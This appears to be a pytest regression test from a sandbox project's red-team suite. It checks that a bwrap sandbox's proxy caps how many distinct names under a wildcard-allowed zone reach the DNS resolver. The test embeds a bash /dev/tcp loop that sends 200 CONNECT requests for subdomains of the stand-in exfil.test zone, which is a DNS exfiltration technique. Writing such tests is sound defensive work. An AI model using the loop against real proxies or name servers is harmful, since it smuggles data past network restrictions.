"""Red team round 37 (net): DNS exfiltration from a bwrap ``proxied`` sandbox, end to end.

A command allowed ``*.exfil.test`` writes ``CONNECT c<N>.exfil.test:443`` to the bridge
(127.0.0.1:3128) with bash's ``/dev/tcp``, 200 distinct names: each name the proxy looks up on the
host reaches the zone's name server (`test_redteam_round37_net_dnsexfil` has the cases). Now at
most 128 distinct names a session go to the resolver; the rest are refused saying why. The proxy
runs on the host (the same code for root and non-root callers; the test runs for both). A stand-in
``getaddrinfo`` in this (the host) process records what reaches the resolver.
"""

from __future__ import annotations

import socket
from pathlib import Path

import pytest

from sandbox import BwrapConfig, SandboxPolicy
from sandbox.bwrap import BwrapBackend, _reachable
from tests import _nonroot
from tests._bwrap_session import require_bwrap, supervised
from tests.conftest import require

_NAMES = 200


@pytest.mark.anyio
async def test_a_sandboxed_command_cannot_send_unbounded_names_to_a_wildcard_zone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    require_bwrap()
    require(_reachable("/bin/bash"), "bash is not installed where the sandbox uid may run it")
    real = socket.getaddrinfo
    asked: set[str] = set()

    def resolver(host: object, port: object, *args: object, **kwargs: object) -> object:
        name = host.decode() if isinstance(host, bytes) else str(host)
        if name.endswith(".exfil.test"):
            asked.add(name)  # the zone's name server saw it
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        return real(host, port, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(socket, "getaddrinfo", resolver)
    ws, session = tmp_path / "ws", tmp_path / "session"
    ws.mkdir()
    session.mkdir()
    policy = SandboxPolicy(workspace=ws, network="proxied", allowed_domains=("*.exfil.test",))
    command = (
        f"for i in $(seq 1 {_NAMES}); do exec 3<>/dev/tcp/127.0.0.1/3128; "
        "printf 'CONNECT c%s.exfil.test:443 HTTP/1.1\\r\\n\\r\\n' $i >&3; cat <&3; exec 3<&-; "
        "done | grep -c 'distinct names'"
    )
    async with supervised(BwrapBackend(BwrapConfig(), policy), session) as sup:
        out = await sup.run(command, timeout_s=120)
    assert len(asked) < _NAMES and len(asked) <= 128, f"{len(asked)} distinct names reached the resolver"
    assert out.preview.strip() == str(_NAMES - len(asked)), (out.preview, len(asked))


def test_it_holds_for_an_unprivileged_caller() -> None:
    _nonroot.held_as_nobody(__file__, "test_a_sandboxed_command_cannot_send_unbounded_names_to_a_wildcard_zone")
